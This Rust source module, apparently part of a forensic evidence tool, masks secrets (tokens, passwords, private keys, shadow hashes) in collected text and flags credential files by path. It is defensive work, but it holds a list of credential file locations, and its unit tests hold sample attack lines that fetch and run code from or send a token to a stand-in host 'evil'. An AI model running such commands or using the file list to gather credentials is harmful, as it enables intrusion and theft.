//! What text is a secret, and how it is kept out of the evidence.
//!
//! The rules err on the side of secrecy: what is wrongly hidden still has its length and digest, what is wrongly shown cannot
//! be taken back. But what is hidden is as little as possible, because a script must not hide behind one token.

use std::ops::Range;

/// A key that holds one of these, in any case, has a secret value.
const IN_KEY: [&[u8]; 8] =
    [b"TOKEN", b"SECRET", b"PASSWORD", b"PASSWD", b"PASSPHRASE", b"CREDENTIAL", b"APIKEY", b"AUTHORIZATION"];

/// A key that ends with one of these, in any case, has a secret value. `PWD` alone is the working directory.
const AT_KEY_END: [&[u8]; 7] = [b"KEY", b"_DSN", b"PASS", b"_PWD", b"_COOKIE", b"AUTH", b"_PAT"];

/// A value that holds one of these, in any case, assigns or carries a secret, as command lines and connection strings do.
const IN_VALUE: [&[u8]; 11] = [
    b"PASSWORD=",
    b"PASSWD=",
    b"PWD=",
    b"PASSPHRASE=",
    b"SECRET=",
    b"TOKEN=",
    b"API_KEY=",
    b"APIKEY=",
    b"ACCESS_KEY=",
    b"BEARER ",
    b"-----BEGIN",
];

/// Prefixes of issued tokens, and how many letters, digits, `-` and `_` must follow.
const TOKENS: [(&[u8], usize); 15] = [
    (b"eyJ", 8),
    (b"ghp_", 20),
    (b"gho_", 20),
    (b"ghs_", 20),
    (b"ghu_", 20),
    (b"ghr_", 20),
    (b"npm_", 20),
    (b"AIza", 30),
    (b"github_pat_", 20),
    (b"glpat-", 16),
    (b"xoxb-", 10),
    (b"xoxp-", 10),
    (b"xoxa-", 10),
    (b"xoxs-", 10),
    (b"sk-", 20),
];

/// Bytes of an AWS access key id: `AKIA` or `ASIA` and 16 capitals or digits.
const ACCESS_KEY: usize = 20;

/// Names of files that hold nothing but secrets.
const FILES: [&[u8]; 14] = [
    b".netrc",
    b".git-credentials",
    b".pgpass",
    b".my.cnf",
    b".mylogin.cnf",
    b".vault-token",
    b".s3cfg",
    b".boto",
    b"opasswd",
    b"chap-secrets",
    b"pap-secrets",
    b".dockercfg",
    b"kubeconfig",
    b".htpasswd",
];

/// Ends of paths of such files.
const PATHS: [&[u8]; 7] = [
    b"/.aws/credentials",
    b"/.docker/config.json",
    b"/.kube/config",
    b"/.config/gcloud/credentials.db",
    b"/.config/gh/hosts.yml",
    b"/.azure/msal_token_cache.json",
    b"/.config/rclone/rclone.conf",
];

/// Ends of names of files that hold keys and no text.
const ENDINGS: [&[u8]; 8] = [b".p12", b".pfx", b".jks", b".keystore", b".kdbx", b".keytab", b".ppk", b".nmconnection"];

/// Whether the value of a variable called `key` is a secret.
pub(super) fn is_key(key: &[u8]) -> bool {
    let key = key.to_ascii_uppercase();
    let aws = key.starts_with(b"AWS_") && contains(&key, b"KEY");
    aws || IN_KEY.iter().any(|part| contains(&key, part)) || AT_KEY_END.iter().any(|end| key.ends_with(end))
}

/// Whether `text` holds a secret anywhere.
pub(super) fn is_text(text: &[u8]) -> bool {
    let upper = text.to_ascii_uppercase();
    IN_VALUE.iter().any(|part| contains(&upper, part))
        || text.windows(ACCESS_KEY).any(is_access_key)
        || TOKENS.iter().any(|(prefix, length)| has_token(text, prefix, *length))
        || has_password_in_url(text)
        || has_password_at_host(text)
}

/// Whether all of the file at `path` is a secret, by its name.
pub(super) fn is_file(path: &[u8]) -> bool {
    let name = path.rsplit(|b| *b == b'/').next().unwrap_or_default();
    FILES.contains(&name)
        || PATHS.iter().any(|end| path.ends_with(end))
        || ENDINGS.iter().any(|end| name.to_ascii_lowercase().ends_with(end))
}

fn is_access_key(window: &[u8]) -> bool {
    (window.starts_with(b"AKIA") || window.starts_with(b"ASIA"))
        && window.iter().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
}

fn has_token(text: &[u8], prefix: &[u8], length: usize) -> bool {
    behind(text, prefix).any(|rest| rest.iter().take_while(|b| is_token_byte(**b)).count() >= length)
}

fn is_token_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_'
}

/// `scheme://user:password@`, whatever the password holds but blanks and quotes.
fn has_password_in_url(text: &[u8]) -> bool {
    // Each word is looked at once, from its first `://` on: a password may hold another one.
    text.split(|b| b.is_ascii_whitespace() || b"\"'".contains(b)).any(|word| password_in_url(word).is_some())
}

/// `user:password@host` without a scheme.
fn has_password_at_host(text: &[u8]) -> bool {
    let stops = |b: &u8| b.is_ascii_whitespace() || b"/@".contains(b);
    let mut parts = text.split_inclusive(stops);
    parts.any(|part| {
        let login = part.strip_suffix(b"@").unwrap_or_default();
        login.iter().position(|b| *b == b':').is_some_and(|colon| colon > 0 && colon + 1 < login.len())
    })
}

/// Where in `word` the password of a URL stands.
fn password_in_url(word: &[u8]) -> Option<Range<usize>> {
    let begin = word.windows(3).position(|three| three == b"://")? + 3;
    let authority = word.get(begin..)?;
    let at = authority.iter().rposition(|b| *b == b'@')?;
    let colon = authority.get(..at)?.iter().position(|b| *b == b':')?;
    (colon + 1 < at).then(|| begin + colon + 1..begin + at)
}

/// Where in `word`, which is no URL, the password of `user:password@host` stands.
fn password_at_host(word: &[u8]) -> Option<Range<usize>> {
    let at = word.iter().rposition(|b| *b == b'@')?;
    let login = word.get(..at)?;
    let colon = login.iter().position(|b| *b == b':').filter(|colon| *colon > 0)?;
    (colon + 1 < at && !login.iter().any(|b| b"/@".contains(b))).then_some(colon + 1..at)
}

/// What stands behind each occurrence of `part`.
fn behind<'a>(text: &'a [u8], part: &'a [u8]) -> impl Iterator<Item = &'a [u8]> {
    text.windows(part.len()).zip(part.len()..).filter(move |(window, _)| *window == part).filter_map(|(_, end)| text.get(end..))
}

fn contains(text: &[u8], part: &[u8]) -> bool {
    text.windows(part.len()).any(|window| window == part)
}

/// Puts an `x` in the place of each byte of a secret in the lines of `text`, so that all others keep their place. Returns how
/// many bytes that were.
pub(super) fn mask(text: &mut [u8]) -> u64 {
    let mut spans = private_keys(text);
    let mut at = 0;
    for line in text.split_inclusive(|b| *b == b'\n') {
        spans.extend(in_line(line).into_iter().map(|span| at + span.start..at + span.end));
        at += line.len();
    }
    let mut count = 0;
    for span in spans {
        for byte in text.get_mut(span).unwrap_or_default().iter_mut().filter(|byte| !matches!(byte, b'\n' | b'\r' | b'x')) {
            *byte = b'x';
            count += 1;
        }
    }
    count
}

/// The bodies of private keys in PEM form (RFC 7468), also where they stand in quotes on one line. A body ends where no such
/// key could go on, so that nothing else hides behind a mark.
fn private_keys(text: &[u8]) -> Vec<Range<usize>> {
    const BEGIN: &[u8] = b"-----BEGIN ";
    const MARK: &[u8] = b"PRIVATE KEY-----";
    let begins = text.windows(BEGIN.len()).zip(BEGIN.len()..).filter(|(window, _)| *window == BEGIN).map(|(_, end)| end);
    let body = |start: usize| {
        // "ENCRYPTED ", "OPENSSH " and the like stand before the mark, and no more.
        let head = text.get(start..start + MARK.len() + 16).or_else(|| text.get(start..))?;
        let from = start + head.windows(MARK.len()).position(|window| window == MARK)? + MARK.len();
        let rest = text.get(from..)?;
        let end = rest.windows(5).position(|five| five == b"-----").unwrap_or(rest.len());
        let body = rest.get(..end)?;
        Some(from..from + body.iter().take_while(|b| b.is_ascii_alphanumeric() || b"+/=\\:,-. \t\r\n".contains(b)).count())
    };
    begins.filter_map(body).collect()
}

/// Words of `line` with their offsets.
fn words(line: &[u8]) -> impl Iterator<Item = (usize, &[u8])> {
    let mut at = 0;
    line.split(u8::is_ascii_whitespace).filter_map(move |word| {
        let start = at;
        at += word.len() + 1;
        (!word.is_empty()).then_some((start, word))
    })
}

/// What the next word of a line is.
#[derive(Clone, Copy)]
enum Next {
    Anything,
    /// The value of what the last word named.
    Value,
    /// Part of a value, until this quote closes it.
    Quoted(u8),
}

fn in_line(line: &[u8]) -> Vec<Range<usize>> {
    let mut spans = Vec::new();
    let mut next = Next::Anything;
    for (at, word) in words(line) {
        let whole = at..at + word.len();
        next = match next {
            Next::Quoted(quote) => {
                spans.push(whole);
                if word.contains(&quote) { Next::Anything } else { next }
            }
            Next::Value if is_scheme(word) => Next::Value,
            Next::Value => {
                spans.push(whole);
                open_quote(word)
            }
            Next::Anything => {
                let (found, next) = in_word(word);
                spans.extend(found.into_iter().map(|span| at + span.start..at + span.end));
                next
            }
        };
    }
    spans
}

/// How a value goes on that begins with `value`.
fn open_quote(value: &[u8]) -> Next {
    match value.split_first() {
        Some((quote @ (b'"' | b'\''), rest)) if !rest.contains(quote) => Next::Quoted(*quote),
        _ => Next::Anything,
    }
}

fn trim_quotes(word: &[u8]) -> &[u8] {
    let word = word.trim_ascii();
    let start = word.iter().position(|b| !b"\"'".contains(b)).unwrap_or(word.len());
    let end = word.iter().rposition(|b| !b"\"',".contains(b)).map_or(start, |last| last + 1);
    word.get(start..end.max(start)).unwrap_or_default()
}

fn without_backslashes(name: &[u8]) -> &[u8] {
    let end = name.iter().rposition(|b| *b != b'\\').map_or(0, |last| last + 1);
    name.get(..end).unwrap_or_default()
}

/// Schemes of HTTP's `Authorization`, which stand before the secret; a lone `=` or `:` does so too.
fn is_scheme(word: &[u8]) -> bool {
    let word = trim_quotes(word).to_ascii_lowercase();
    [&b"bearer"[..], b"basic", b"token", b"=", b":", b"=>"].contains(&word.as_slice())
}

/// The secrets in one word, and what the next one is.
fn in_word(word: &[u8]) -> (Vec<Range<usize>>, Next) {
    let mut spans = tokens(word);
    spans.extend(password_in_url(word).or_else(|| password_at_host(word)));
    spans.extend(members(word));
    if let Some((at, next)) = assignment(word) {
        spans.push(at..word.len());
        return (spans, next);
    }
    let bare = trim_quotes(word);
    let named = bare.strip_suffix(b":").or_else(|| bare.strip_prefix(b"--")).map(trim_quotes);
    let next = if named.is_some_and(is_key) || bare.eq_ignore_ascii_case(b"bearer") { Next::Value } else { Next::Anything };
    (spans, next)
}

/// Where in `word` the value of an assignment to a secret begins.
fn assignment(word: &[u8]) -> Option<(usize, Next)> {
    let is_name = |b: &u8| b.is_ascii_alphanumeric() || b"_.-".contains(b);
    let signs = word.iter().enumerate().filter(|(_, b)| **b == b'=').map(|(at, _)| at);
    for at in signs.take(64) {
        let before = word.get(..at)?;
        let name = before.iter().rposition(|b| !is_name(b)).map_or(before, |last| before.get(last + 1..).unwrap_or_default());
        // A name longer than this is none.
        if name.len() <= 256 && !name.is_empty() && is_key(name) {
            return Some((at + 1, open_quote(word.get(at + 1..)?)));
        }
    }
    None
}

/// Values of members of JSON objects that are written without a blank: `"name":"value"`, also inside of another string, where
/// each quote has backslashes before it.
fn members(word: &[u8]) -> Vec<Range<usize>> {
    let mut spans = Vec::new();
    let mut from = 0;
    for (colon, _) in word.iter().enumerate().filter(|(_, b)| **b == b':') {
        let before = word.get(from..colon).unwrap_or_default();
        let Some(name) = before.strip_suffix(b"\"").map(without_backslashes) else { continue };
        let begin = name.iter().rposition(|b| *b == b'"').map_or(0, |quote| quote + 1);
        let value = word.get(colon + 1..).unwrap_or_default();
        let lead = value.iter().take_while(|b| b"[\\".contains(b)).count();
        let rest = value.get(lead..).unwrap_or_default();
        // A value that goes on in the next word is that of `Next::Value`.
        if !is_key(name.get(begin..).unwrap_or_default()) || rest.is_empty() {
            continue;
        }
        let (start, end) = match rest.strip_prefix(b"\"") {
            Some(text) => (1, text.iter().position(|b| *b == b'"').map_or(rest.len(), |quote| quote + 1)),
            None => (0, rest.iter().position(|b| b",}]".contains(b)).unwrap_or(rest.len())),
        };
        from = colon + 1 + lead + end;
        spans.push(colon + 1 + lead + start..from);
    }
    spans
}

/// Tokens and access keys in `word` that begin where no other word goes on.
fn tokens(word: &[u8]) -> Vec<Range<usize>> {
    let begins = |at: usize| at.checked_sub(1).and_then(|before| word.get(before)).is_none_or(|b| !b.is_ascii_alphanumeric());
    let mut spans = Vec::new();
    for (at, _) in word.iter().enumerate().filter(|(at, _)| begins(*at)) {
        let rest = word.get(at..).unwrap_or_default();
        if rest.get(..ACCESS_KEY).is_some_and(is_access_key) {
            spans.push(at..at + ACCESS_KEY);
        }
        for (prefix, length) in TOKENS {
            let Some(rest) = rest.strip_prefix(prefix) else { continue };
            // A JSON web token has three parts with full stops between them.
            let follows = rest.iter().take_while(|b| is_token_byte(**b) || (prefix == b"eyJ" && **b == b'.')).count();
            if follows >= length {
                spans.push(at..at + prefix.len() + follows);
            }
        }
    }
    spans
}

/// Puts an `x` in the place of each byte of the password field of `shadow` and `gshadow` lines (shadow(5)), but of what says
/// how it was hashed. Returns how many bytes that were.
pub(super) fn mask_shadow(text: &mut [u8]) -> u64 {
    let mut count = 0;
    for line in text.split_mut(|b| *b == b'\n') {
        let Some(field) = line.split_mut(|b| *b == b':').nth(1) else { continue };
        let hidden = hash_begins(field);
        for byte in field.get_mut(hidden..).unwrap_or_default() {
            *byte = b'x';
            count += 1;
        }
    }
    count
}

/// Where in a password field the hash begins: behind marks of a locked account and `$id$`. A field of marks alone has none.
fn hash_begins(field: &[u8]) -> usize {
    let marks = field.iter().take_while(|b| b"!*".contains(b)).count();
    let rest = field.get(marks..).unwrap_or_default();
    let id = rest.strip_prefix(b"$").and_then(|rest| rest.iter().position(|b| *b == b'$'));
    marks + id.filter(|length| *length <= 8).map_or(0, |length| length + 2)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn masked(text: &str) -> String {
        let mut bytes = text.as_bytes().to_vec();
        mask(&mut bytes);
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn secrets_in_commands_are_hidden_and_the_commands_stay() {
        for (line, shown) in [
            ("export AWS_SECRET_ACCESS_KEY=wJalr", "export AWS_SECRET_ACCESS_KEY=xxxxx"),
            ("curl -H \"Authorization: Bearer abc\" http://evil/", "curl -H \"Authorization: Bearer xxxx http://evil/"),
            ("mysql --password hunter2 -h db", "mysql --password xxxxxxx -h db"),
            ("Environment=\"API_TOKEN=a b\" PATH=/bin", "Environment=\"API_TOKEN=x b\" PATH=/bin"),
            ("DB_PASS='a b c' run", "DB_PASS=xx x xx run"),
            ("password: hunter2", "password: xxxxxxx"),
            ("git clone https://u:pw@h/x.git", "git clone https://u:xx@h/x.git"),
            ("aws configure set k AKIAIOSFODNN7EXAMPLE;", "aws configure set k xxxxxxxxxxxxxxxxxxxx;"),
            ("echo eyJhbGciOiJI.e30.x|sh", "echo xxxxxxxxxxxxxxxxxx|sh"),
            ("curl -u u:pw@h", "curl -u u:xx@h"),
            (r#"{"a":1,"API_TOKEN":"ab","b":"c"}"#, r#"{"a":1,"API_TOKEN":"xx","b":"c"}"#),
            (r#"{\"MyPassword\":\"ab\",\"b\":2}"#, r#"{\"MyPassword\":\"xxx",\"b\":2}"#),
            (r#"{"SecretKey":["ab"],"n":1}"#, r#"{"SecretKey":["xx"],"n":1}"#),
            (r#"{"auth":12,"n":1}"#, r#"{"auth":xx,"n":1}"#),
            ("secret = value", "secret = value"),
        ] {
            assert_eq!(masked(line), shown);
        }
    }

    #[test]
    fn what_a_responder_needs_stays() {
        for line in [
            "ssh-rsa AAAAB3NzaC1yc2EAAAADeyJQABAAABgQC7eyJaaaaaaaaaaa root@h",
            "* * * * * root curl http://evil/x | sh",
            "LD_PRELOAD=/dev/shm/x.so /bin/ls",
            "sk-ssh-ed25519@openssh.com AAAA",
            "cd /tmp; wget 192.0.2.1:8080/a",
            "scp git@h:a/b reg:5000/img@sha256:00 :@x",
            "AuthorizedKeysFile .ssh/authorized_keys",
        ] {
            assert_eq!(masked(line), line);
        }
    }

    #[test]
    fn a_private_key_is_hidden_and_no_script_behind_it() {
        let text = "a\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\nNzaC1r\n-----END OPENSSH PRIVATE KEY-----\nb\n";
        let hidden = "a\n-----BEGIN OPENSSH PRIVATE KEY-----\nxxxxxx\nxxxxxx\n-----END OPENSSH PRIVATE KEY-----\nb\n";
        assert_eq!(masked(text), hidden);
        assert!(masked("# -----BEGIN PRIVATE KEY-----\n$(curl http://evil/)\n").ends_with("\n$(curl http://evil/)\n"));
    }

    #[test]
    fn hashes_of_passwords_are_hidden_and_their_kind_stays() {
        let mut text =
            b"root:$6$salt$hash:19000:0:99999:7:::\nx:!:1::::::\ny:!$y$j9T$a$b:1:\nz:abJnggxhB/yWI:1:\n\xff\nold::1:".to_vec();
        assert_eq!(mask_shadow(&mut text), 9 + 7 + 13);
        let shown = b"root:$6$xxxxxxxxx:19000:0:99999:7:::\nx:!:1::::::\ny:!$y$xxxxxxx:1:\nz:xxxxxxxxxxxxx:1:\n\xff\nold::1:";
        assert_eq!(text, shown);
    }

    #[test]
    fn files_of_secrets_are_known() {
        for path in ["/root/.aws/credentials", "/home/a/.netrc", "/etc/security/opasswd", "/etc/x/Server.P12"] {
            assert!(is_file(path.as_bytes()), "{path}");
        }
        for path in ["/root/.aws/config", "/etc/passwd", "/home/a/.ssh/id_rsa.pub", "/home/a/netrc"] {
            assert!(!is_file(path.as_bytes()), "{path}");
        }
    }

    proptest! {
        #[test]
        fn any_text_keeps_its_length_and_lines(text: Vec<u8>) {
            for hide in [mask, mask_shadow] {
                let mut copy = text.clone();
                hide(&mut copy);
                prop_assert!(copy.iter().zip(&text).all(|(new, old)| new == old || (*new == b'x' && *old != b'\n')));
                prop_assert_eq!(copy.len(), text.len());
            }
        }

        #[test]
        fn no_assigned_secret_survives(before in "[ -~\n]{0,60}", key in "(DB_PASSWORD|aws_secret_key|API_TOKEN)", value in "[Q-WY-Z]{16,40}") {
            let mut text = format!("{before}\n{key}={value}\nafter").into_bytes();
            mask(&mut text);
            prop_assert!(!contains(&text, value.as_bytes()));
            prop_assert!(text.ends_with(b"\nafter"));
        }
    }
}
